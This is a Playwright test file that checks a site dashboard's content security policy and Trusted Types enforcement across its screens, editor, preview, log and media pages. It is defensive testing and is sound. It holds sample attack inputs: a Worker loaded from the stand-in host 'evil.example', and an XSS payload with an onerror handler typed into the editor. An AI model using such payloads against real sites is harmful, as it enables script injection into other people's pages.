import { expect, test, type BrowserContext, type Page } from '@playwright/test';
import { noticed } from './notices';
import { ADMIN, startProduct, type Product } from './product';

// The dashboard under its content security policy, Trusted Types included: on no screen is anything refused.
test.describe.configure({ mode: 'serial' });

let product: Product;
let context: BrowserContext;
let page: Page;
const refused: string[] = [];

test.beforeAll(async ({ browser }) => {
  product = await startProduct({ SAMPLE_SITE: 'true' });
  context = await browser.newContext({ baseURL: product.url, viewport: { width: 1440, height: 900 } });
  await context.exposeFunction('noteRefusal', (what: string) => refused.push(what));
  // In every document, frames included.
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const { effectiveDirective, blockedURI, sample, sourceFile, lineNumber } = event;
      const note = (window as unknown as { noteRefusal: (what: string) => void }).noteRefusal;
      note(`${location.pathname}: ${effectiveDirective} ${blockedURI} ${sample} ${sourceFile}:${lineNumber}`);
    });
  });
  page = await context.newPage();
  page.on('pageerror', (error) => refused.push(`${page.url()}: ${error.message}`));
  await page.goto('/dashboard/login');
  await page.getByLabel('Username').fill(ADMIN.username);
  await page.getByLabel('Password', { exact: true }).fill(ADMIN.password);
  await page.getByRole('button', { name: 'Login' }).click();
  await expect(page).toHaveURL(/\/dashboard$/);
});

test.afterAll(async () => {
  await context?.close();
  await product?.remove();
});

/** Nothing is loading any more, and the browser has nothing left to do. (The event stream keeps the network busy.) */
async function settled(which: Page) {
  await expect(which.locator('[aria-busy="true"]')).toHaveCount(0);
  await which.evaluate(() => new Promise<void>((resolve) => requestIdleCallback(() => resolve())));
}

test.afterEach(() => {
  expect(refused.splice(0)).toEqual([]);
});

test('every page of the dashboard carries the policy, and it holds', async () => {
  const reply = await page.request.get('/dashboard');
  const policy = reply.headers()['content-security-policy'];
  expect(policy).toContain(
    "require-trusted-types-for 'script';trusted-types default vestry-frame ProseMirrorClipboard",
  );
  expect(policy).not.toContain("'unsafe-");
  const outcomes = await page.evaluate(() => {
    const attempt = (work: () => unknown) => {
      try {
        work();
        return 'done';
      } catch (error) {
        return (error as Error).name;
      }
    };
    return [
      attempt(() => (document.createElement('div').innerHTML = '<img src=x>')),
      attempt(() => (document.createElement('iframe').srcdoc = '<p>x</p>')),
      attempt(() => new Worker('https://evil.example/worker.js')),
      attempt(() => new Worker('/api/v1/media/evil.js')),
      attempt(() =>
        (
          window as unknown as { trustedTypes: { createPolicy: (...given: unknown[]) => unknown } }
        ).trustedTypes.createPolicy('mine', {}),
      ),
    ];
  });
  expect(outcomes).not.toContain('done');
  // These were refused as they should be.
  await expect.poll(() => refused.length).toBeGreaterThan(2);
  refused.length = 0;
});

test('its service worker is registered', async () => {
  const script = await page.evaluate(async () => (await navigator.serviceWorker.ready).active?.scriptURL);
  expect(script).toBe(`${product.url}/dashboard/service-worker.js`);
});

test('every screen of the menu', async () => {
  await page.goto('/dashboard');
  const links = page.getByRole('navigation', { name: 'Dashboard' }).getByRole('link');
  await expect(links.first()).toBeVisible();
  const hrefs = () => links.evaluateAll((all) => all.map((each) => each.getAttribute('href') ?? ''));
  await expect.poll(hrefs).toContain('/dashboard/users');
  const paths = await hrefs();
  const rest = ['/dashboard', '/dashboard/account', '/dashboard/users/create', '/dashboard/nowhere'];
  for (const path of [...paths, ...rest]) {
    await page.goto(path);
    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
    await settled(page);
    expect(refused).toEqual([]);
  }
});

test('the editor, on every page and element of the sample site', async () => {
  for (const list of ['/dashboard/pages', '/dashboard/elements']) {
    await page.goto(`${list}?limit=100`);
    const links = page.getByRole('link', { name: /^Edit/ });
    await expect(links.first()).toBeVisible();
    await expect.poll(() => links.count()).toBeGreaterThan(1);
    const paths = await links.evaluateAll((all) => all.map((each) => each.getAttribute('href') ?? ''));
    for (const path of paths) {
      await page.goto(path);
      const canvas = page.frameLocator('iframe[title="Canvas"]');
      await expect(canvas.locator('[data-widget-id]').first()).toBeAttached();
      await settled(page);
      expect(refused).toEqual([]);
    }
  }
});

test('a log, which a worker searches', async () => {
  await page.goto('/dashboard/logs');
  await page
    .getByRole('link', { name: /\.log$/ })
    .first()
    .click();
  await expect(page).toHaveURL(/\/dashboard\/logs\/.+\.log/);
  await page.getByRole('searchbox', { name: 'Filter' }).fill('signed in');
  await page.keyboard.press('Enter');
  await expect(page.getByRole('table', { name: 'Log lines' }).getByText('signed in').first()).toBeVisible();
  await settled(page);
});

test('writing in the editor', async () => {
  await page.goto('/dashboard/pages/create');
  await page.getByLabel('Route').fill('written');
  await page.getByRole('button', { name: 'Add New Element' }).click();
  await page.getByRole('button', { name: /^Text/ }).click();
  await page.getByLabel('Text', { exact: true }).fill('<img src=x onerror=alert(1)>');
  await expect(page.frameLocator('iframe[title="Canvas"]').getByText('<img src=x')).toBeVisible();
  await noticed(page, 'create page successfully', () => page.getByRole('button', { name: 'Save' }).click());
});

test('the preview', async () => {
  await page.getByRole('button', { name: 'Preview' }).click();
  const opened = context.waitForEvent('page');
  await page.getByRole('menuitem', { name: /Mobile/ }).click();
  const preview = await opened;
  await expect(preview.frameLocator('iframe').getByText('<img src=x')).toBeVisible();
  await settled(preview);
  await preview.close();
});

test('an image, which a worker prepares', async () => {
  await page.goto('/dashboard/media');
  const png = await page.evaluate(async () => {
    const canvas = new OffscreenCanvas(1400, 1400);
    const drawing = canvas.getContext('2d')!;
    const noise = drawing.createImageData(1400, 1400);
    for (let at = 0; at < noise.data.length; at += 1)
      noise.data[at] = at % 4 === 3 ? 255 : Math.random() * 255;
    drawing.putImageData(noise, 0, 0);
    const bytes = new Uint8Array(await (await canvas.convertToBlob({ type: 'image/png' })).arrayBuffer());
    return btoa(Array.from(bytes, (byte) => String.fromCharCode(byte)).join(''));
  });
  await noticed(page, 'upload image successfully', () =>
    page
      .getByLabel('Images', { exact: true })
      .and(page.locator('input'))
      .setInputFiles({ name: 'noise.png', mimeType: 'image/png', buffer: Buffer.from(png, 'base64') }),
  );
});

test('the pages outside', async () => {
  const visitor = await context.newPage();
  for (const path of [
    '/activated',
    '/activated-fail',
    '/dashboard/google-login-success',
    '/dashboard/login?mode=default',
  ]) {
    await visitor.goto(path);
    await expect(visitor.getByRole('heading', { level: 1 }).first()).toBeVisible();
    await settled(visitor);
  }
  await visitor.close();
});
